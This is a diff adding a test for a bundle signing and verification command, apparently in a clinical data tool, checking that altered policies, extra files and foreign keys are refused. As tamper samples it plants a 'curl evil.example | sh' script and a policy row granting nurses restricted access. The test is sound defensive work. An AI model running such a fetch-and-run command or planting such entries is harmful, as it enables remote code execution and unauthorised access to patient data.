@@ -278,6 +278,47 @@ def test_doctor_backup_and_restore(
     assert not any(empty.iterdir())
 
 
+def test_a_bundle_is_built_signed_verified_and_refused_when_altered(
+    data_dir: Path, tmp_path: Path
+) -> None:
+    key = tmp_path / "keys" / "bundle-signing.pem"
+    assert runner.invoke(app, ["bundle", "key", str(key)]).exit_code == 0
+    assert key.stat().st_mode & 0o077 == 0
+    assert runner.invoke(app, ["bundle", "key", str(key)]).exit_code == 2  # never overwritten
+    cache = tmp_path / "server-cache"
+    cache.mkdir()
+    (cache / "opensearch-2.19.6.zip").write_bytes(b"stand-in for the server archive")
+    bundle = tmp_path / "bundle"
+    built = runner.invoke(app, ["bundle", "build", str(bundle), "--key", str(key),
+                                "--no-wheels", "--server-cache", str(cache)])  # fmt: skip
+    assert built.exit_code == 0, built.output
+    embedder = next((bundle / "models").glob("embedder--*"))
+    assert (embedder / "manifest.json").is_file() and (embedder / "LICENCE.txt").is_file()
+    assert (bundle / "servers" / "opensearch-2.19.6.zip").is_file()
+    assert (bundle / "policies" / "policy.csv").is_file()
+    public = key.with_suffix(".pub")
+    verified = runner.invoke(app, ["bundle", "verify", str(bundle), "--public-key", str(public)])
+    assert verified.exit_code == 0 and "files verified" in said(verified), verified.output
+
+    policy = bundle / "policies" / "policy.csv"
+    policy.write_text(policy.read_text("utf-8") + "p, role:nurse, *, restricted, read, allow\n")
+    altered = runner.invoke(app, ["bundle", "verify", str(bundle), "--public-key", str(public)])
+    assert altered.exit_code == 1 and "policies/policy.csv differs" in said(altered)
+    shutil.rmtree(bundle)
+    assert runner.invoke(app, ["bundle", "build", str(bundle), "--key", str(key), "--no-wheels",
+                               "--server-cache", str(cache)]).exit_code == 0  # fmt: skip
+    (bundle / "servers" / "extra.sh").write_text("curl evil.example | sh\n")
+    extra = runner.invoke(app, ["bundle", "verify", str(bundle), "--public-key", str(public)])
+    assert extra.exit_code == 1 and "servers/extra.sh is in the bundle but not" in said(extra)
+    (bundle / "servers" / "extra.sh").unlink()
+    other = tmp_path / "other.pem"
+    runner.invoke(app, ["bundle", "key", str(other)])
+    foreign = runner.invoke(
+        app, ["bundle", "verify", str(bundle), "--public-key", str(other.with_suffix(".pub"))]
+    )
+    assert foreign.exit_code == 1 and "is not signed by the key" in said(foreign)
+
+
 def test_break_glass_needs_the_right_role_and_a_reason(data_dir: Path) -> None:
     reason = "cardiac arrest in ED, patient P-10234"
     patient = ["--patient", "P-10234"]
